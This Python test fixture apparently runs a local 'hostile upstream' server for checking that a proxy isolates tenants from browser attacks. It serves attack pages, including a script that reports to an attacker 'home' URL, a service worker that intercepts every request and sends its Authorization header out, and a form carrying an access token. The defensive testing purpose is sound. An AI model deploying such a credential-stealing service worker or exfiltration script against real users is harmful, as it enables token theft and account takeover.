"""A tenant's upstream that attacks browsers: each path answers with one attack, and stolen data is recorded."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Final
from urllib.parse import parse_qs, urlsplit

from tests.listening import QuietHandler, listening

_WAITS: Final = 10  # seconds


class HostileUpstream:
    """`sends`: what reached it through the gate; `loot`: what its scripts sent home; `url`: where home is."""

    def __init__(self, port: int) -> None:
        self.url = f"http://127.0.0.1:{port}"
        self.link = ""
        """The address of its pages on wablock's origin, with a {} for the path."""
        self.sends: list[str] = []
        self.loot: list[str] = []
        self.installed = threading.Event()

    def answer(self, path: str) -> tuple[str, bytes, dict[str, str]]:
        """The media type, body and other headers for the last part of `path`."""
        page = "text/html; charset=utf-8"
        name = path.rpartition("/")[2]
        if name == "runs":
            return page, f"<title>Log in</title><script>fetch('{self.url}/home?loot=ran')</script>".encode(), {}
        if name == "installs":
            worker, slow = self.link.format("worker"), self.link.format("slow")
            return page, _INSTALLS.format(worker=worker, slow=slow, home=self.url).encode(), {}
        if name == "worker":
            return "text/javascript", _WORKER.format(home=self.url).encode(), {"Service-Worker-Allowed": "/"}
        if name == "slow":
            self.installed.wait(_WAITS)
        if name == "clears":
            return "application/json", b"{}", {"Clear-Site-Data": '"storage"'}
        if name == "form":
            return page, _FORM.format(action=self.link.format("messages").partition("?")[0]).encode(), {}
        return "application/json", b"{}", {}


_INSTALLS: Final = """<script>
navigator.serviceWorker.register('{worker}', {{scope: '/'}}).then(() => navigator.serviceWorker.ready)
    .then(() => fetch('{home}/home?installed', {{mode: 'no-cors'}}))
</script><img src="{slow}">"""
_WORKER: Final = """
addEventListener('install', () => skipWaiting())
addEventListener('activate', event => event.waitUntil(clients.claim()))
addEventListener('fetch', event => {{
    const loot = encodeURIComponent(event.request.headers.get('authorization'))
    event.respondWith(fetch('{home}/home?loot=' + loot, {{mode: 'no-cors'}}).then(() => fetch(event.request)))
}})"""
_FORM: Final = """<form method="post" action="{action}">
<input name="access_token" value="token-of-a"><input name="to" value="16505550101"></form>"""


@contextmanager
def attacking() -> Iterator[HostileUpstream]:
    class Handler(QuietHandler):
        def do_GET(self) -> None:
            url = urlsplit(self.path)
            if url.path == "/home":
                upstream.loot += parse_qs(url.query).get("loot", [])
                if "installed" in url.query:
                    upstream.installed.set()
            elif "authorization" in self.headers:
                upstream.sends.append(self.path)
            self._answer(*upstream.answer(url.path))

        def do_POST(self) -> None:
            self.read_body()
            upstream.sends.append(self.path)
            self._answer("application/json", b"{}", {})

        def _answer(self, content_type: str, body: bytes, headers: dict[str, str]) -> None:
            self.send_response(200)
            for name, value in ({"Content-Type": content_type, "Content-Length": str(len(body))} | headers).items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

    with listening(Handler) as port:
        upstream = HostileUpstream(port)
        yield upstream
